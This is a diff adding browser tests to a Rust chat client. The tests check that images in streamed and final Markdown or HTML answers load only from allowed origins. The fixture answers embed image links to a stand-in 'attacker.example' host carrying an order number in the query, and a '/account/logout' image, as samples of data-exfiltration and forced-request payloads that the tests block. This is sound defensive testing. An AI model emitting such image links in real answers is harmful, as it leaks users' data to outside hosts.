@@ -1,7 +1,8 @@
 //! A streaming reply on screen, in a real Chromium: Markdown formatted as it arrives (only the
 //! open tail redrawn), progress lines with their indicator, an `error` frame's message, legacy
 //! raw text and `ui.streamingFormat: "text"` shown as plain text, and a final answer that keeps
-//! the streamed nodes when it is the same Markdown but replaces them when it is not.
+//! the streamed nodes when it is the same Markdown but replaces them when it is not; images in
+//! streamed and final answers only from the origins the transcript allows.
 #![cfg(target_arch = "wasm32")]
 #![allow(clippy::unwrap_used)] // tests: a panic is the failure report
 
@@ -11,6 +12,7 @@ use lexstream_client::config::StreamingFormat;
 use lexstream_client::conversation::Conversation;
 use lexstream_client::transcript::Transcript;
 use lexstream_protocol::lex::{Message, MessageContentType};
+use lexstream_protocol::render::policy::ImageOrigins;
 use lexstream_protocol::{Frame, Incoming, parse_incoming};
 use wasm_bindgen::JsCast;
 use wasm_bindgen_test::*;
@@ -62,10 +64,15 @@ impl Drop for Shown {
 
 /// A transcript view with one question asked, its reply waiting.
 async fn asked(format: StreamingFormat) -> Shown {
+    asked_allowing_images(format, ImageOrigins::none()).await
+}
+
+/// A transcript view whose answers may show images from `images`, with one question asked.
+async fn asked_allowing_images(format: StreamingFormat, images: ImageOrigins) -> Shown {
     let document = web_sys::window().unwrap().document().unwrap();
     let host = document.create_element("div").unwrap();
     document.body().unwrap().append_child(&host).unwrap();
-    let mut transcript = Transcript::default();
+    let mut transcript = Transcript::default().allowing_images_from(images);
     transcript.ask("Tell me", TURN);
     let conversation = Conversation::new(transcript);
     let handle = leptos::mount::mount_to(host.clone().unchecked_into(), move || {
@@ -164,4 +171,47 @@ async fn legacy_raw_text_and_the_text_format_stay_plain_text() {
     text.finalize(MessageContentType::CustomPayload, "# Not a heading\n**not bold**");
     next_frame().await;
     assert!(text.reply().query_selector("h1").unwrap().is_some(), "the final answer is formatted");
+}
+
+/// The `src` of every image under `element`.
+fn image_sources(element: &Element) -> Vec<String> {
+    let images = element.query_selector_all("img").unwrap();
+    (0..images.length())
+        .filter_map(|index| images.item(index)?.unchecked_into::<Element>().get_attribute("src"))
+        .collect()
+}
+
+#[wasm_bindgen_test]
+async fn images_load_only_from_the_allowed_origins_while_streaming_and_in_the_final_answer() {
+    // A loopback origin that refuses connections: the allowed image is requested, nothing leaves.
+    let allowed = "http://127.0.0.1:9/chart.png";
+    let images = ImageOrigins::parse(&["http://127.0.0.1:9"]).unwrap();
+    let shown = asked_allowing_images(StreamingFormat::Markdown, images).await;
+    let answer = format!(
+        "![the chart]({allowed})\n\nYour order ![4711](https://attacker.example/?q=4711) and \
+         ![logout](/account/logout) shipped.\n\nDone."
+    );
+    shown.chunk(0, &answer);
+    next_frame().await;
+    assert_eq!(image_sources(&shown.streamed()), [allowed], "{}", shown.streamed().inner_html());
+    assert!(shown.streamed().inner_text().contains("Your order 4711 and logout shipped."));
+
+    shown.finalize(MessageContentType::CustomPayload, &answer);
+    next_frame().await;
+    assert_eq!(image_sources(&shown.reply()), [allowed], "{}", shown.reply().inner_html());
+    assert!(shown.reply().inner_text().contains("Your order 4711 and logout shipped."));
+}
+
+#[wasm_bindgen_test]
+async fn an_html_answer_shows_images_from_elsewhere_as_their_alt_text() {
+    let images = ImageOrigins::parse(&["http://127.0.0.1:9"]).unwrap();
+    let shown = asked_allowing_images(StreamingFormat::Markdown, images).await;
+    shown.finalize(
+        MessageContentType::CustomPayload,
+        "<p><img src=\"http://127.0.0.1:9/a.png\" alt=\"kept\"> <img src=\"https://attacker.example/x\" alt=\"as text\"></p>",
+    );
+    next_frame().await;
+    let reply = shown.reply();
+    assert_eq!(image_sources(&reply), ["http://127.0.0.1:9/a.png"], "{}", reply.inner_html());
+    assert!(reply.inner_text().contains("as text"), "{}", reply.inner_html());
 }
